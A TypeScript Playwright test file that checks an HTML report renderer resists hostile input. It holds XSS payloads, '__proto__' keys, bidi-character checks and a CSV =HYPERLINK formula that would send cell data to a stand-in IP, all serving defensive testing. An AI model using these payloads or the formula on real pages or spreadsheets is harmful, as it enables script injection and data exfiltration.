import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { RunReport } from '../../src/domain/report.ts';
import { renderForecastHtml } from '../../src/report/forecast-html.ts';
import { renderHtml } from '../../src/report/html.ts';
import { HOSTILE_TEXTS, hostileForecast, hostileReport } from '../support/report/hostile.ts';
import { startChromium } from './support/chromium.ts';
import { openPage } from './support/open-page.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await startChromium();
});
afterAll(async () => {
  await browser?.close();
});

const TEXTS: readonly string[] = [
  ...Object.values(HOSTILE_TEXTS),
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '</title></style><svg onload=alert(1)>',
  'javascript:alert(1)',
];

/** Elements that no page of ours has: they could come from a name only. */
const FOREIGN =
  'img, iframe, object, embed, link, base, form, script ~ *, svg[onload], [onerror], [onload], [style], a:not([href^="#"])';
const TURNING = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;

it('no text in any place of a report does anything', async () => {
  const title = `${TEXTS.join(' ')}</title>`;
  const { page, problems, close } = await openPage(browser, renderHtml(reportOfAllTexts(), { title }));
  for (const text of TEXTS) await page.locator('#keys input[type=search]').fill(text.slice(0, 40));
  await page.locator('#keys').getByRole('button', { name: 'Clear' }).click();
  await page.evaluate('for (const button of document.querySelectorAll("thead button")) button.click()');
  for (const select of await page.locator('#keys select').all()) await select.selectOption({ index: 1 });
  expect(await page.locator(FOREIGN).count()).toBe(0);
  expect(await page.locator('script').count()).toBe(1);
  expect(await page.locator('body').textContent()).not.toMatch(TURNING);
  expect(await page.title()).not.toMatch(TURNING);
  expect(problems).toEqual([]);
  await close();
});

it('no text in any place of a forecast does anything', async () => {
  const all = TEXTS.map(hostileForecast);
  const events = all.flatMap((forecast) => forecast.events);
  const assumptions = all.flatMap((forecast) => forecast.assumptions);
  const html = renderForecastHtml({ ...hostileForecast(''), events, assumptions });
  const { page, problems, close } = await openPage(browser, html);
  await page.locator('#ahead input[type=search]').fill('<img');
  expect(await page.locator(FOREIGN).count()).toBe(0);
  expect(await page.locator('body').textContent()).not.toMatch(TURNING);
  expect(problems).toEqual([]);
  await close();
});

it('a hostile address does nothing', async () => {
  const html = renderHtml(hostileReport('name'));
  const query = new URLSearchParams({
    q: '<img src=x onerror=alert(1)>',
    Account: '"><script>',
    sort: '__proto__',
  });
  for (const hash of [
    `#keys?${query}`,
    '#<img src=x onerror=alert(1)>?q=1',
    '#__proto__?q=1',
    '#keys?sort=-',
  ]) {
    const { page, problems, close } = await openPage(browser, html, { hash });
    expect(await page.locator(FOREIGN).count()).toBe(0);
    expect(problems).toEqual([]);
    await close();
  }
});

it('rows copied as CSV hold no formula', async () => {
  const before = `
    globalThis.copied = undefined;
    const clipboard = { writeText: async (text) => { globalThis.copied = text; } };
    Object.defineProperty(navigator, 'clipboard', { value: clipboard });`;
  const formula = '=HYPERLINK("http://203.0.113.1/?"&A1,"open")';
  const { page, problems, close } = await openPage(browser, renderHtml(hostileReport(formula)), { before });
  await page.locator('#keys').getByRole('button', { name: 'Copy as CSV' }).click();
  const text: string = await page.evaluate('copied');
  const [head = '', ...rows] = text.split('\r\n');
  expect(head).toBe('"User","Account","Key","Status","Age","Limit","Action","Why","Due"');
  expect(rows.length).toBe(hostileReport(formula).decisions.length);
  expect(rows.every((row) => row.startsWith(`"'=HYPERLINK(""http`))).toBe(true);
  expect(text).not.toMatch(/(^|,)"[=+@-]/m);
  expect(await page.locator('#keys output').innerText()).toBe(`${rows.length} rows copied`);
  expect(problems).toEqual([]);
  await close();
});

/** A report in which every hostile text stands in every place, so that one page tries them all. */
function reportOfAllTexts(): RunReport {
  const reports = TEXTS.map(hostileReport);
  const [first = hostileReport('')] = reports;
  const applied = first.applied;
  return {
    ...first,
    decisions: reports.flatMap(({ decisions }) => decisions.filter((_, index) => index % 7 === 0)),
    coverage: reports.flatMap(({ coverage }) => coverage.slice(-3)),
    exemptions: reports.flatMap(({ exemptions }) => exemptions.slice(0, 2)),
    advice: reports.flatMap(({ advice }) => advice),
    ...(applied === undefined
      ? {}
      : { applied: { ...applied, refused: reports.flatMap((report) => report.applied?.refused ?? []) } }),
  };
}
